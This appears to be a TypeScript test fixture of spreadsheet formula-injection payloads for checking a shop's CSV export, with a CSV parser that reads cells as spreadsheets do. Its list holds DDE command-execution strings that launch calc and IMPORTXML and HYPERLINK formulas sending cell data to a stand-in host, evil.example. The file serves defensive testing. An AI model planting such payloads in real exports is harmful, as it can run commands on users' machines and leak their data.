/** Formula injections for spreadsheets, and a CSV parser that is independent of the shop's own. */

const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","x")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '+1+1',
  '+60123456789',
  '-2+3',
  '-1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '−1',
  '%0A=1',
  '|calc',
]

/** Each formula alone, and after characters that spreadsheets skip or take for separators. */
export const formulaInjections: readonly string[] = formulas.flatMap((formula) => [
  formula,
  ...[
    '\t',
    '\r',
    '\n',
    '\r\n',
    ' ',
    '\u00a0',
    '\u3000',
    '\u200b',
    '\ufeff',
    '\u0000',
    "'",
    '"',
  ].map((prefix) => prefix + formula),
  `Jalan 1;${formula}`,
  `Jalan 1\t${formula}`,
  `Jalan 1\n${formula}`,
  `","${formula}`,
  `";"${formula}`,
  `a";${formula}`,
])

/**
 * Returns the cells of each row, as spreadsheets read them: only a quote at the start of a cell
 * opens a quoted cell.
 */
export function parseCsvAsSpreadsheet(text: string, separator: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let isQuoted = false
  const body = text.startsWith('\uFEFF') ? text.slice(1) : text
  for (let index = 0; index < body.length; index++) {
    const character = body[index] ?? ''
    if (isQuoted) {
      if (character !== '"') cell += character
      else if (body[index + 1] === '"') {
        cell += '"'
        index++
      } else isQuoted = false
    } else if (character === '"' && cell === '') isQuoted = true
    else if (character === separator) {
      row.push(cell)
      cell = ''
    } else if (character === '\n') {
      rows.push([...row, cell.replace(/\r$/, '')])
      row = []
      cell = ''
    } else cell += character
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell])
  return rows
}
